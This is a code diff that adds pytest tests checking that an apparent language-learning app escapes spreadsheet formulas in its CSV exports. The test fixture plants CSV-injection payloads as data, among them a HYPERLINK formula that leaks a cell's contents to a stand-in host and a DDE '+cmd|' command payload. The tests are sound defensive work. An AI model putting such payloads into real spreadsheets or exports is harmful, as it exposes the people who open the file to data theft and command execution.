@@ -182,3 +182,41 @@ def test_real_entry_point_prints_utf8_whatever_the_console(filled: Path):
     )
     assert proc.returncode == 2 and b"Traceback" not in proc.stderr
     assert "n’existe" not in proc.stderr.decode("utf-8") and b"does not exist" in proc.stderr
+
+
+@pytest.fixture
+def planted(tmp_path: Path) -> Path:
+    """A learner named like a formula, and formulas where a spreadsheet would run them."""
+    folder = tmp_path / "data"
+    clock = FakeClock()
+    with ProgressStore.open(folder, clock=clock) as store:
+        evil = store.create_profile('=HYPERLINK("http://x.example/?"&A1,"Voir")')
+        sid = store.start_session(evil, make_article("meteo", "+cmd|' /C calc'!A0"), "exam", {})
+        store.finish_session(sid, 1, 2, {})
+        store.log_lookup(evil, "meteo", "s1", "@SUM(1)", "-2+3", "\tlead", "\r=1+1", "ok")
+    return folder
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised(planted: Path):
+    code, out, _ = run(results_main, "--data-dir", str(planted))
+    assert code == 0
+    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert row["profile"] == '\'=HYPERLINK("http://x.example/?"&A1,"Voir")'
+    assert row["article_title"] == "'+cmd|' /C calc'!A0"
+    assert (row["score"], row["points"], row["percent"]) == ("1", "2", "50.0")  # numbers stay
+    code, out, _ = run(words_main, "--data-dir", str(planted), "--format", "csv")
+    [word] = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert (word["word"], word["headword"]) == ("'@SUM(1)", "'-2+3")
+    assert (word["gloss"], word["sentence_fr"], word["sentence_en"]) == ("'\tlead", "'\r=1+1", "ok")
+    for value in word.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_raw_keeps_the_cells_as_stored(planted: Path):
+    code, out, _ = run(results_main, "--data-dir", str(planted), "--raw")
+    assert code == 0
+    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert row["profile"].startswith("=HYPERLINK(")
+    code, out, _ = run(words_main, "--data-dir", str(planted), "--format", "csv", "--raw")
+    [word] = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert (word["word"], word["headword"], word["sentence_fr"]) == ("@SUM(1)", "-2+3", "\r=1+1")
